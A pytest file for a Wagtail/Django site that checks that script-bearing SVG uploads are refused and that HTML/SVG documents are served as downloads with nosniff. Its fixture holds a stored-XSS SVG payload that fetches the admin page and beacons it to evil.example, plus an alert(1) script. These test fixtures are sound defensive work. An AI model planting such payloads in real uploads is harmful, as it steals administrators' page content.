"""Uploads that could run script from our origin are refused: SVG images in the Wagtail admin (an SVG is a
document that can carry <script>, and uploaded images are served from our own address), and files whose
content is not what their name says (evidence: tests/incentives/test_record_milestone.py)."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image as PillowImage
from wagtail.documents.models import Document
from wagtail.images.models import Image

from people.models import Role
from tests.conftest import user_with_role

pytestmark = pytest.mark.django_db

SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/admin/').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))"
    b'</script><rect width="10" height="10"/></svg>'
)


def png():
    out = io.BytesIO()
    PillowImage.new("RGB", (4, 4), "white").save(out, "PNG")
    return out.getvalue()


@pytest.fixture
def manager_client(client, db):
    client.force_login(user_with_role(Role.PROGRAM_MANAGER, username="maya"))
    return client


def upload_image(client, name, content, content_type):
    return client.post(
        "/admin/images/multiple/add/",
        {"files[]": SimpleUploadedFile(name, content, content_type=content_type)},
        headers={"x-requested-with": "XMLHttpRequest"},
    )


@pytest.mark.parametrize(
    ("name", "content_type"), [("logo.svg", "image/svg+xml"), ("logo.png", "image/png"), ("logo.gif", "image/gif")]
)
def test_an_svg_with_a_script_cannot_be_uploaded_as_an_image(manager_client, name, content_type):
    response = upload_image(manager_client, name, SVG_WITH_SCRIPT, content_type)

    assert response.json()["success"] is False
    assert not Image.objects.exists()


def test_a_real_photo_is_still_uploaded(manager_client):
    response = upload_image(manager_client, "logo.png", png(), "image/png")

    assert response.json()["success"] is True
    assert Image.objects.get().file.read()[:4] == b"\x89PNG"


def test_a_document_that_is_a_web_page_is_downloaded_never_shown_inline(manager_client, client):
    document = Document.objects.create(title="Flyer", file=SimpleUploadedFile("flyer.svg", SVG_WITH_SCRIPT))
    page = Document.objects.create(title="Page", file=SimpleUploadedFile("flyer.html", b"<script>alert(1)</script>"))

    for served in (document, page):
        response = client.get(served.url)
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment")
        assert response["X-Content-Type-Options"] == "nosniff"
